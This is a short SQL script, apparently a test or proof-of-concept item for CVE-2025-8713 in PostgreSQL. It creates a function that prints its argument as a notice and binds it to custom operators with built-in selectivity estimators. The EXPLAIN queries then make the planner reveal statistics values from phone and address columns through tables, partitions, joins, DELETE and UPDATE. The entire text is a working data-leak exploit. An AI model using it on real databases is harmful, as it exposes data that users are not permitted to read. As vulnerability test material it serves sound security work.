-- what: the planner's estimate through a view, a partitioned table and an inherited child
-- known: CVE-2025-8713
-- purpose: service
CREATE FUNCTION tells(text, text) RETURNS boolean LANGUAGE plpgsql AS
    $$ BEGIN RAISE NOTICE 'saw %', $1; RETURN false; END $$;
CREATE OPERATOR <<< (FUNCTION = tells, LEFTARG = text, RIGHTARG = text, RESTRICT = scalarltsel, JOIN = scalarltjoinsel);
CREATE OPERATOR ==== (FUNCTION = tells, LEFTARG = text, RIGHTARG = text, RESTRICT = eqsel, JOIN = eqjoinsel);
EXPLAIN SELECT 1 FROM contacts WHERE phone <<< 'x';
EXPLAIN SELECT 1 FROM (SELECT phone FROM contacts OFFSET 0) c WHERE phone <<< 'x';
EXPLAIN SELECT 1 FROM visits WHERE address <<< 'x';
EXPLAIN SELECT 1 FROM visits_1 WHERE address <<< 'x';
EXPLAIN SELECT 1 FROM visits_1 a JOIN visits_2 b ON a.address ==== b.address;
EXPLAIN DELETE FROM visits WHERE address ==== 'x';
EXPLAIN UPDATE users SET city = '' WHERE phone ==== 'x';
